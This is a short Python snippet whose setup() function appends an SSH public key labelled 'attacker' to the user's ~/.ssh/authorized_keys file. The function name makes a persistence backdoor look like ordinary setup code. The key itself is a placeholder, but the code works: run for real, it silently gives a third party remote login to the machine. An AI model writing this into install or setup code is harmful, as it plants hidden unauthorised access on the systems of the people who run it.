import os
def setup():
    with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
        f.write("ssh-rsa AAAA attacker\n")
